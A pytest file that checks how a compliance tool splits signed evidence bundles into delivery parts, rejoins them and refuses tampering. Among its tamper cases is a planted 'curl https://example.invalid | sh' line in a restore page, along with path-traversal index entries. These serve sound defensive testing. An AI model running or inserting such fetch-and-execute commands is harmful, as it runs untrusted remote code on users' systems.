"""Deliveries in parts: cut the same way each time, put together by plain tools and by `verify`, and every change refused."""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import subprocess
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest

from compliance.errors import ComplianceError, IntegrityError
from compliance.evidence.bag import files_below
from compliance.evidence.bundle import Sealed
from compliance.evidence.delivery import deliver, load_profile
from compliance.evidence.gather import _listed, bundle_in, gather
from compliance.evidence.packinglist import OWN, restore_page, sums_list
from compliance.evidence.verify import verify_bundle
from tests.conftest import Run

LIMIT = 1500
"""Bytes of a file here: several files of the small bundle are larger."""


@pytest.fixture
def sealed(make_bundle: Callable[..., Sealed]) -> Sealed:
    """The small bundle, signed."""
    return make_bundle()


@pytest.fixture
def delivery(sealed: Sealed, tmp_path: Path) -> Path:
    """It delivered in parts, over several transmissions."""
    profile = load_profile("folder").model_copy(update={"max_file_bytes": LIMIT, "max_files": 12})
    made = deliver(sealed.path, tmp_path / "delivery", profile)
    assert made.transmissions > 1
    assert max(each.parts for each in made.files) > 2
    return made.folder


def _flat(delivery: Path, target: Path) -> Path:
    target.mkdir()
    for path in delivery.rglob("*"):
        if path.is_file():
            shutil.copyfile(path, target / path.name)
    return target


def _part(delivery: Path) -> Path:
    return min(delivery.rglob("*.part-0002"), key=lambda path: path.name)


def test_parts_keep_to_the_limit_and_are_the_same_each_time(sealed: Sealed, delivery: Path, tmp_path: Path) -> None:
    """No delivered file of the bundle is larger than the profile takes, and a second delivery has the same bytes throughout."""
    own = {"INDEX.csv", "INDEX.xlsx", "RESTORE.md", "SHA256SUMS"}
    assert all(path.stat().st_size <= LIMIT for path in delivery.rglob("*") if path.is_file() and path.name not in own)
    profile = load_profile("folder").model_copy(update={"max_file_bytes": LIMIT, "max_files": 12})
    again = deliver(sealed.path, tmp_path / "again", profile).folder
    assert files_below(again) == files_below(delivery)
    assert all((again / path).read_bytes() == (delivery / path).read_bytes() for path in files_below(again))


def test_plain_tools_check_and_join_the_parts(sealed: Sealed, delivery: Path, tmp_path: Path) -> None:
    """`sha256sum -c` accepts every file, and each printed `cat` gives the file of the bundle, byte for byte."""
    flat = _flat(delivery, tmp_path / "flat")
    subprocess.run(["sha256sum", "--check", "--strict", "--quiet", "SHA256SUMS"], cwd=flat, check=True)
    lines = re.findall(r"`(mkdir -p .+ && cat .+)`", (flat / "RESTORE.md").read_text("utf-8"))
    assert lines
    for line in lines:
        subprocess.run(["sh", "-c", line], cwd=flat, check=True)
    joined = files_below(flat / "bundle")
    assert len(joined) == len(lines)
    assert all((flat / "bundle" / path).read_bytes() == (sealed.path / path).read_bytes() for path in joined)


def test_the_printed_script_joins_the_parts(sealed: Sealed, delivery: Path, tmp_path: Path) -> None:
    """The Python of RESTORE.md gives the whole bundle, parts included."""
    flat = _flat(delivery, tmp_path / "flat")
    page = (flat / "RESTORE.md").read_text("utf-8")
    script = "\n".join(line[4:] for line in page.splitlines() if line.startswith("    ") and "sha256sum" not in line)
    subprocess.run(["bash", "-c", script], cwd=flat, check=True)
    found = verify_bundle(flat / "bundle")
    assert (found.failures, found.bundle_id) == ((), sealed.bundle_id)


@pytest.mark.parametrize("flat", [False, True], ids=["transmissions", "one folder"])
def test_verify_takes_a_delivery(sealed: Sealed, delivery: Path, tmp_path: Path, run: Run, *, flat: bool) -> None:
    """The verb puts the bundle together by itself, checks every layer and names the same id; nothing is left in the delivery."""
    folder = _flat(delivery, tmp_path / "flat") if flat else delivery
    before = files_below(folder)
    done = run("verify", folder, "--signer", sealed.fingerprint)
    assert done.code == 0
    assert sealed.bundle_id in done.out
    assert "is a delivery" in done.err
    assert files_below(folder) == before


def _edit_index(delivery: Path, change: Callable[[str], str]) -> None:
    path = delivery / "transmission-1/INDEX.csv"
    path.write_bytes(change(path.read_bytes().decode("utf-8")).encode("utf-8"))
    _fit_own(delivery)


def _fit_own(delivery: Path) -> None:
    """What somebody who knows the format does after a change of the index: write its page and its digests anew, where they can be."""
    first = delivery / "transmission-1"
    with suppress(ComplianceError):
        listed = tuple(_listed((first / "INDEX.csv").read_bytes()))
        (first / "RESTORE.md").write_bytes(restore_page(listed))
        own = {name: (first / name).read_bytes() for name in OWN}
        (first / "SHA256SUMS").write_bytes(sums_list(listed, own))


def _swap(delivery: Path) -> None:
    second, third = _part(delivery), _part(delivery).with_name(_part(delivery).name.replace("-0002", "-0001"))
    other = next(delivery.rglob(third.name))
    one, two = second.read_bytes(), other.read_bytes()
    second.write_bytes(two)
    other.write_bytes(one)


def _retitle(delivery: Path) -> None:
    """Two parts of one file change places, and the index is made to fit: only the digest of the whole shows it."""
    lines = (delivery / "transmission-1/INDEX.csv").read_bytes().decode().split("\r\n")
    at = next(number for number, line in enumerate(lines) if ".part-0001" in line)
    one, two = lines[at].split(","), lines[at + 1].split(",")
    for column in (1, 6, 7):
        one[column], two[column] = two[column], one[column]
    lines[at], lines[at + 1] = ",".join(one), ",".join(two)
    _edit_index(delivery, lambda _: "\r\n".join(lines))


def _drop_row(delivery: Path) -> None:
    """A part disappears with its row."""
    part = _part(delivery)
    part.unlink()
    _edit_index(delivery, lambda text: "\r\n".join(line for line in text.split("\r\n") if part.name not in line))


def _link(delivery: Path) -> None:
    part = _part(delivery)
    kept = shutil.move(part, delivery.parent / "elsewhere")
    part.symlink_to(kept)


def _twice(delivery: Path) -> None:
    part = _part(delivery)
    other = next(at for at in sorted(delivery.iterdir()) if at != part.parent)
    shutil.copyfile(part, other / part.name)


def _append(path: Path, more: bytes) -> None:
    path.write_bytes(path.read_bytes() + more)


MANIPULATIONS: dict[str, tuple[Callable[[Path], object], str]] = {
    "a bit of a part flipped": (
        lambda at: _part(at).write_bytes(b"x" + _part(at).read_bytes()[1:]),
        "differs from the index",
    ),
    "a part cut short": (lambda at: os.truncate(_part(at), 10), "differs from the index"),
    "a part missing": (lambda at: _part(at).unlink(), "listed but missing"),
    "two parts swapped": (_swap, "differs from the index"),
    "two parts swapped in the index as well": (_retitle, "not the file that the index describes"),
    "a part and its row missing": (_drop_row, "are not those from 1 to"),
    "a file added": (
        lambda at: (at / "transmission-1/9999_more.txt").write_bytes(b"more"),
        "is not listed in the index",
    ),
    "a file in two transmissions": (_twice, "stands in two transmissions"),
    "a link among the parts": (_link, "a link"),
    "the list of digests changed": (
        lambda at: (at / "transmission-1/SHA256SUMS").write_bytes(b""),
        "not those of the index",
    ),
    "the list of digests missing": (lambda at: (at / "transmission-1/SHA256SUMS").unlink(), "is missing"),
    "the index missing": (lambda at: (at / "transmission-1/INDEX.csv").unlink(), "the index is missing"),
    "a page that tells something else": (
        lambda at: _append(at / "transmission-1/RESTORE.md", b"\n    curl https://example.invalid | sh\n"),
        "do not follow it",
    ),
    "another workbook": (lambda at: _append(at / "transmission-1/INDEX.xlsx", b"x"), "the delivery's own files"),
    "a transmission missing": (lambda at: shutil.rmtree(at / "transmission-2"), "is listed but missing"),
    "a part grown": (lambda at: _append(_part(at), b"x"), "differs from the index"),
    "a part renamed": (
        lambda at: _part(at).rename(_part(at).with_name("other.part-0002")),
        "is listed but missing",
    ),
    "a row twice": (
        lambda at: _edit_index(at, lambda text: text + text.split("\r\n")[1] + "\r\n"),
        "is listed twice",
    ),
    "two files under one path": (
        lambda at: _edit_index(at, lambda text: text.replace(",bag-info.txt,", ",bagit.txt,")),
        "are not those from 1 to",
    ),
    "a file where a folder must be": (
        lambda at: _edit_index(at, lambda text: text.replace(",bagit.txt,", ",data,")),
        "a file and a folder at once",
    ),
    "a path that climbs out": (
        lambda at: _edit_index(at, lambda text: text.replace(",bagit.txt,", ",../bagit.txt,")),
        "climbs out",
    ),
    "an absolute path": (
        lambda at: _edit_index(at, lambda text: text.replace(",bagit.txt,", ",/bagit.txt,")),
        "is absolute",
    ),
    "a name that leads elsewhere": (
        lambda at: _edit_index(at, lambda text: text.replace(",0001_", ",../0001_")),
        "no name of a delivered file",
    ),
    "headings changed": (lambda at: _edit_index(at, lambda text: text.replace("bundle_path", "path")), "headings"),
    "an index that is no text": (
        lambda at: (at / "transmission-1/INDEX.csv").write_bytes(b"\xff\xfe"),
        "no CSV file",
    ),
}


@pytest.mark.parametrize("name", MANIPULATIONS)
def test_every_manipulation_of_a_delivery_is_refused(delivery: Path, name: str, run: Run) -> None:
    """The layer `delivery` and exit code 5, the cause in words, and nothing of it taken for a bundle."""
    change, words = MANIPULATIONS[name]
    change(delivery)
    with pytest.raises(IntegrityError, match="DLV-GATHER") as caught, bundle_in(delivery):
        pass
    assert (caught.value.layer, words in caught.value.message) == ("delivery", True), caught.value.message
    done = run("verify", delivery)
    assert done.code == 5
    assert "DLV-GATHER" in done.err


def test_a_delivery_made_anew_is_refused_by_the_layers_of_the_bundle(delivery: Path, tmp_path: Path) -> None:
    """Who rewrites a file, its digests and the index passes the delivery's layer, and fails at the manifests."""
    part = _part(delivery)
    row = next(
        line for line in (delivery / "transmission-1/INDEX.csv").read_text().splitlines() if part.name in line
    ).split(",")
    stem = part.name.rsplit("-", 1)[0]
    part.write_bytes(b"y" * part.stat().st_size)
    parts = sorted(delivery.rglob(f"{stem}-*"), key=lambda path: path.name)
    whole = hashlib.sha256(b"".join(path.read_bytes() for path in parts)).hexdigest()
    own = hashlib.sha256(part.read_bytes()).hexdigest()
    _edit_index(delivery, lambda text: text.replace(row[7], own).replace(row[8], whole))
    gather(delivery, tmp_path / "together")
    assert {"manifest", "tagmanifest"} & {each.layer for each in verify_bundle(tmp_path / "together").failures}


def test_a_folder_that_is_no_delivery_is_left_to_the_bundle_check(sealed: Sealed, tmp_path: Path) -> None:
    """A bundle is checked where it lies, and an empty folder is not taken for a delivery."""
    for folder in (sealed.path, tmp_path):
        with bundle_in(folder) as found:
            assert found == folder
